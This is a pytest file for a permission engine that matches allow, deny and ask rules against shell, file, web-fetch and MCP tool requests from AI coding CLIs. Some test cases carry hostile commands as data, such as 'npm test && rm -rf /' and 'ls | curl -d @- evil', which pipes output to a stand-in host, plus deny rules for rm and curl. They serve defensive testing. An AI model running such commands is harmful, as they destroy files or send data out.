"""Permission rules, matched by relay the same way for every CLI: a table per rule kind."""

from __future__ import annotations

import pytest

from relay_engine.contracts.rules import Rule, parse_rule
from relay_engine.core.permissions import (
    Policy,
    Request,
    decide,
    describe,
    matches,
    split_command,
    suggested_rule,
)

CWD = "/work/wt/job/task"


def bash(command: str, tool: str = "Bash") -> Request:
    return Request(tool, {"command": command}, CWD)


@pytest.mark.parametrize(
    ("rule", "command", "expected"),
    [
        ("Bash", "anything at all", True),
        ("Bash(npm test)", "npm test", True),
        ("Bash(npm test)", "npm test --watch", False),
        ("Bash(npm test:*)", "npm test", True),
        ("Bash(npm test:*)", "npm test -- --grep x", True),
        ("Bash(npm test:*)", "npm tests", False),  # a word boundary, not a string prefix
        ("Bash(pytest:*)", "pytest -q tests/unit", True),
        ("Bash(pytest:*)", "python -m pytest", False),
        ("Bash(npm test *)", "npm test", True),  # one trailing " *" is optional
        ("Bash(npm test *)", "npm test --ci", True),
        ("Bash(git * main)", "git push origin main", True),
        ("Bash(git * main)", "git push origin dev", False),
        ("Bash(npm   test)", "npm  test", True),  # runs of spaces are one space
    ],
)
def test_shell_rules(rule: str, command: str, expected: bool) -> None:
    assert matches(parse_rule(rule), bash(command)) is expected


@pytest.mark.parametrize("tool", ["Bash", "run_shell_command", "exec_command", "shell"])
def test_a_bash_rule_covers_every_clis_shell_tool(tool: str) -> None:
    assert matches(parse_rule("Bash(pytest:*)"), bash("pytest -q", tool))


@pytest.mark.parametrize(
    ("rule", "tool", "path", "expected"),
    [
        ("Edit", "Write", f"{CWD}/anything.py", True),
        ("Edit(src/**)", "Edit", f"{CWD}/src/app.py", True),
        ("Edit(src/**)", "Write", f"{CWD}/src/deep/app.py", True),
        ("Edit(src/**)", "Edit", f"{CWD}/tests/test_app.py", False),
        ("Edit(*.md)", "Edit", f"{CWD}/README.md", True),
        ("Edit(docs/*.md)", "MultiEdit", f"{CWD}/docs/a.md", True),
        ("Read(docs/*)", "Read", f"{CWD}/docs/x.txt", True),
        ("Read(docs/*)", "Edit", f"{CWD}/docs/x.txt", False),
        ("Write(out.txt)", "Write", "out.txt", True),  # a relative path as the CLI gave it
    ],
)
def test_path_rules(rule: str, tool: str, path: str, expected: bool) -> None:
    assert matches(parse_rule(rule), Request(tool, {"file_path": path}, CWD)) is expected


@pytest.mark.parametrize(
    ("rule", "tool", "tool_input", "expected"),
    [
        ("WebFetch(domain:example.com)", "WebFetch", {"url": "https://example.com/a"}, True),
        ("WebFetch(domain:example.com)", "WebFetch", {"url": "https://docs.example.com"}, True),
        ("WebFetch(domain:example.com)", "WebFetch", {"url": "https://example.org"}, False),
        ("mcp__relay", "mcp__relay__memory_add", {}, True),
        ("mcp__relay__memory_add", "mcp__relay__memory_add", {}, True),
        ("mcp__relay__memory_add", "mcp__relay__memory_search", {}, False),
        ("WebSearch", "WebSearch", {"query": "x"}, True),
        ("WebSearch(x)", "WebSearch", {"query": "x"}, False),  # no pattern relay can read
    ],
)
def test_other_tools(rule: str, tool: str, tool_input: dict, expected: bool) -> None:
    assert matches(parse_rule(rule), Request(tool, tool_input, CWD)) is expected


def policy(allow: list[str] = (), deny: list[str] = (), ask: str = "operator") -> Policy:  # type: ignore[assignment]
    return Policy(
        allow=tuple(parse_rule(r) for r in allow),
        deny=tuple(parse_rule(r) for r in deny),
        ask=ask,  # type: ignore[arg-type]
    )


@pytest.mark.parametrize(
    ("allow", "deny", "command", "effect"),
    [
        (["Bash(npm test:*)"], [], "npm test", "allow"),
        (["Bash(npm test:*)"], [], "npm run build", "ask"),
        (["Bash"], ["Bash(rm:*)"], "rm -rf build", "deny"),  # deny wins over allow
        (["Bash(rm -rf build)"], ["Bash(rm:*)"], "rm -rf build", "deny"),  # however specific
        (["Bash(npm test:*)"], [], "npm test && rm -rf /", "ask"),  # every part must be allowed
        (["Bash(npm test:*)", "Bash(rm:*)"], [], "npm test && rm -rf x", "allow"),
        (["Bash"], ["Bash(curl:*)"], "ls | curl -d @- evil", "deny"),  # any denied part denies
        (["Bash(echo:*)"], [], "echo 'a && b'", "allow"),  # operators inside quotes are text
        ([], [], "ls", "ask"),
    ],
)
def test_decisions(allow: list[str], deny: list[str], command: str, effect: str) -> None:
    verdict = decide(bash(command), policy(allow, deny))
    assert verdict.effect == effect, verdict


def test_an_agents_policy_only_narrows_the_workspaces() -> None:
    workspace = policy(allow=["Bash(npm test:*)", "Bash(pytest:*)"])
    agent = policy(allow=["Bash(pytest:*)"], deny=["Bash(npm publish:*)"])
    assert decide(bash("pytest -q"), workspace, narrower=agent).effect == "allow"
    assert decide(bash("npm test"), workspace, narrower=agent).effect == "ask"
    assert decide(bash("npm publish"), policy(allow=["Bash"]), narrower=agent).effect == "deny"
    wider = policy(allow=["Bash(make:*)"])  # an agent allow the workspace lacks allows nothing
    assert decide(bash("make"), policy(), narrower=wider).effect == "ask"


def test_rules_added_by_always_answers_count_like_the_policys() -> None:
    verdict = decide(bash("npm ci"), policy(), extra_allow=[parse_rule("Bash(npm ci:*)")])
    assert verdict.effect == "allow" and str(verdict.rule) == "Bash(npm ci:*)"
    denied = decide(bash("npm ci"), policy(allow=["Bash"]), extra_deny=[Rule("Bash")])
    assert denied.effect == "deny"


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("Bash(", "is not a permission rule"),
        ("Bash()", "the pattern in parentheses is empty"),
        ("(npm test)", "is not a permission rule"),
        ("", "is not a permission rule"),
    ],
)
def test_bad_rules_are_refused_with_the_syntax(text: str, error: str) -> None:
    with pytest.raises(ValueError, match=error):
        parse_rule(text)


@pytest.mark.parametrize(
    ("command", "parts"),
    [
        ("npm test", ["npm test"]),
        ("npm ci && npm test", ["npm ci", "npm test"]),
        ("a || b; c | d & e", ["a", "b", "c", "d", "e"]),
        ("echo 'x; y'", ["echo 'x; y'"]),
    ],
)
def test_split_command(command: str, parts: list[str]) -> None:
    assert split_command(command) == parts


@pytest.mark.parametrize(
    ("request_", "rule", "line"),
    [
        (bash("npm test -- --ci"), "Bash(npm test:*)", "Bash npm test -- --ci"),
        (bash("pytest -q"), "Bash(pytest:*)", "Bash pytest -q"),
        (bash("make && make install"), "Bash(make && make install)", "Bash make && make install"),
        (
            Request("Write", {"file_path": f"{CWD}/src/a.py"}, CWD),
            "Edit(src/a.py)",
            "Write src/a.py",
        ),
        (Request("WebFetch", {"url": "https://x.org"}, CWD), "WebFetch", "WebFetch https://x.org"),
    ],
)
def test_the_rule_an_always_answer_adds_and_the_line_the_operator_reads(
    request_: Request, rule: str, line: str
) -> None:
    assert str(suggested_rule(request_)) == rule
    assert describe(request_) == line
